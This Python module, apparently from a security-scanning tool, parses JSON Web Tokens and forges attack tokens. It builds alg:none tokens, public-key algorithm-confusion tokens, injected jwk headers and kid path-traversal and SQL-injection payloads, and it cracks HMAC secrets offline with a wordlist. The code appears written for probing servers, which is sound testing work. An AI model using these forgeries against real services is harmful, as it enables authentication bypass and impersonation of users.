"""JSON Web Tokens taken apart and forged, for the JWT probes (pure: no I/O).

PyJWT does the cryptography (HMAC verification, re-signing, key generation through
``cryptography``, JWK export). What PyJWT deliberately refuses is crafted by hand here: an
``alg: none`` token, a token with an edited payload but its old signature, a byte-flipped
signature, an HS256 token keyed with an RSA/EC public key (the algorithm-confusion attack), and
one keyed with the empty key that a ``kid`` pointing at ``/dev/null`` makes a naive server use.
"""

from __future__ import annotations

import base64
import binascii
import gzip
import hashlib
import hmac
import json
import math
import string
import warnings
from collections.abc import Iterable
from dataclasses import dataclass
from functools import cache
from pathlib import Path
from typing import Any

import jwt
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec
from jwt.algorithms import ECAlgorithm, HMACAlgorithm, RSAAlgorithm

__all__ = [
    "KID_INJECTIONS",
    "WORDLIST",
    "Jwt",
    "alg_none",
    "entropy_bits",
    "flipped_signature",
    "forged_payload",
    "hs256_with_public_key",
    "in_wordlist",
    "jwk_injected",
    "kid_injected",
    "parse_jwt",
    "resign",
    "weak_secret",
    "weak_secrets",
]

WORDLIST = Path(__file__).with_name("wordlists") / "jwt-secrets.txt.gz"
"""The JWT secrets attackers try first: tutorial and framework defaults, SecLists' JWT list, and
the 55,982 secret keys of Flask-Unsign-Wordlist (sources and licences in ``NOTICE.md`` there)."""


@cache
def weak_secrets() -> tuple[bytes, ...]:
    """The wordlist, in order (the most common first), each secret as the UTF-8 key HMAC uses."""
    with gzip.open(WORDLIST, "rb") as f:
        return tuple(f.read().split(b"\n")[:-1])


@cache
def _wordlist_set() -> frozenset[bytes]:
    return frozenset(weak_secrets())


def in_wordlist(secret: str) -> bool:
    """Whether ``secret`` is itself one of the wordlist's public secrets."""
    return secret.encode() in _wordlist_set()


_HMAC = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}


@dataclass(frozen=True, slots=True)
class Jwt:
    """A compact JWS split into its parts."""

    header: dict[str, Any]
    claims: dict[str, Any]
    raw_header: str
    raw_claims: str
    signature: bytes

    @property
    def alg(self) -> str:
        alg = self.header.get("alg")
        return alg if isinstance(alg, str) else ""

    @property
    def signing_input(self) -> bytes:
        return f"{self.raw_header}.{self.raw_claims}".encode()


def _b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def _unb64(text: str) -> bytes:
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def _json_part(obj: dict[str, Any]) -> str:
    return _b64(json.dumps(obj, separators=(",", ":")).encode())


def parse_jwt(token: str | None) -> Jwt | None:
    """The parts of ``token`` when it is a compact JWS with JSON header and claims, else None."""
    if not token or token.count(".") != 2:
        return None
    raw_header, raw_claims, raw_sig = token.split(".")
    try:
        header = json.loads(_unb64(raw_header))
        claims = json.loads(_unb64(raw_claims))
        signature = _unb64(raw_sig)
    except (ValueError, binascii.Error, UnicodeDecodeError):
        return None
    if not isinstance(header, dict) or not isinstance(claims, dict) or "alg" not in header:
        return None
    return Jwt(header, claims, raw_header, raw_claims, signature)


def alg_none(token: Jwt, word: str) -> str:
    """The token re-issued unsigned: ``alg`` set to ``word`` (none/None/NONE), empty signature."""
    return f"{_json_part({**token.header, 'alg': word})}.{token.raw_claims}."


def forged_payload(token: Jwt) -> str:
    """The claims changed (a ``specdiff`` claim added, the identity kept) under the old
    signature: only a server that does not verify signatures accepts it."""
    claims = _json_part({**token.claims, "specdiff": "forged"})
    return f"{token.raw_header}.{claims}.{_b64(token.signature)}"


def flipped_signature(token: Jwt) -> str:
    """The token with the first byte of its signature inverted."""
    sig = token.signature or b"\0"
    return f"{token.raw_header}.{token.raw_claims}.{_b64(bytes([sig[0] ^ 0xFF]) + sig[1:])}"


def weak_secret(token: Jwt, candidates: Iterable[bytes] | None = None) -> str | None:
    """The public secret (from :func:`weak_secrets` unless ``candidates``) that verifies an
    HS256/384/512 ``token`` offline, if any: one HMAC of the token's signing input per secret."""
    digest = _HMAC.get(token.alg)
    if digest is None:
        return None
    message, signature = token.signing_input, token.signature
    for secret in weak_secrets() if candidates is None else candidates:
        if hmac.digest(secret, message, digest) == signature:
            return secret.decode()
    return None


def verifies_with(token: Jwt, secret: str) -> bool:
    """Whether ``secret`` is the HMAC key of ``token``."""
    digest = _HMAC.get(token.alg)
    return digest is not None and HMACAlgorithm(digest).verify(
        token.signing_input, secret.encode(), token.signature
    )


def resign(token: Jwt, secret: str, claims: dict[str, Any]) -> str:
    """``claims`` signed with ``secret`` under the token's own HMAC algorithm and header."""
    headers = {k: v for k, v in token.header.items() if k not in ("alg", "typ")}
    with warnings.catch_warnings():
        # a short secret is exactly what this probe tests with: PyJWT's key-length warning only
        warnings.filterwarnings("ignore", category=jwt.InsecureKeyLengthWarning)
        return jwt.encode(claims, secret, algorithm=token.alg, headers=headers or None)


@cache
def _injection_key() -> ec.EllipticCurvePrivateKey:
    """specdiff's own throw-away P-256 key, made once per process."""
    return ec.generate_private_key(ec.SECP256R1())


def jwk_injected(token: Jwt) -> str:
    """The claims signed with specdiff's own key, that key's public JWK in the ``jwk`` header."""
    key = _injection_key()
    public = json.loads(ECAlgorithm.to_jwk(key.public_key()))
    return jwt.encode(
        token.claims, key, algorithm="ES256", headers={"jwk": public, "kid": "specdiff"}
    )


KID_INJECTIONS: tuple[tuple[str, str, str], ...] = (
    ("kid-dev-null", "../" * 12 + "dev/null", ""),
    ("kid-sql-injection", "x' UNION SELECT 'specdiff'--", "specdiff"),
)
"""(purpose, ``kid``, the key that ``kid`` makes a naive server verify with): a key file read
from ``keys_dir + kid`` that is ``/dev/null`` (empty; enough ``../`` for any directory depth), and
a key looked up by SQL string formatting whose ``UNION`` answers the attacker's own string."""


def kid_injected(token: Jwt, kid: str, key: str) -> str:
    """The claims signed HS256 with ``key`` under a header whose ``kid`` is ``kid``.

    PyJWT signs with a non-empty key; it refuses the empty one, so that token is crafted here.
    """
    if key:
        with warnings.catch_warnings():
            # 'specdiff' is short on purpose: the server is tricked into using it
            warnings.filterwarnings("ignore", category=jwt.InsecureKeyLengthWarning)
            return jwt.encode(token.claims, key, algorithm="HS256", headers={"kid": kid})
    signing_input = f"{_json_part({'alg': 'HS256', 'typ': 'JWT', 'kid': kid})}.{token.raw_claims}"
    signature = hmac.new(key.encode(), signing_input.encode(), hashlib.sha256).digest()
    return f"{signing_input}.{_b64(signature)}"


def hs256_with_public_key(token: Jwt, jwk: dict[str, Any]) -> str | None:
    """The claims signed HS256 with the PEM of the server's public key (PyJWT refuses)."""
    try:
        if jwk.get("kty") == "RSA":
            public: Any = RSAAlgorithm.from_jwk(jwk)
        elif jwk.get("kty") == "EC":
            public = ECAlgorithm.from_jwk(jwk)
        else:
            return None
    except (jwt.InvalidKeyError, ValueError, KeyError):
        return None
    pem = public.public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )
    header = {k: v for k, v in token.header.items() if k != "alg"} | {"alg": "HS256"}
    signing_input = f"{_json_part(header)}.{token.raw_claims}"
    signature = hmac.new(pem, signing_input.encode(), hashlib.sha256).digest()
    return f"{signing_input}.{_b64(signature)}"


def entropy_bits(value: str) -> float:
    """An estimate of the randomness in ``value``: length x log2(alphabet actually used).

    The alphabet is the smallest of hex, digits, lower/upper letters, base64 that covers the
    value; a value made of few distinct characters is capped by them.
    """
    if not value:
        return 0.0
    chars = set(value)
    if chars <= set(string.digits):
        alphabet = 10
    elif chars <= set(string.hexdigits.lower() + "-") or chars <= set(string.hexdigits.upper()):
        alphabet = 16
    else:
        alphabet = sum(
            size
            for group, size in (
                (string.ascii_lowercase, 26),
                (string.ascii_uppercase, 26),
                (string.digits, 10),
                ("-_+/=.~", 4),
            )
            if chars & set(group)
        )
    symbols = sum(1 for c in value if c.isalnum())
    alphabet = min(alphabet, max(len(chars), 2))
    return symbols * math.log2(alphabet)
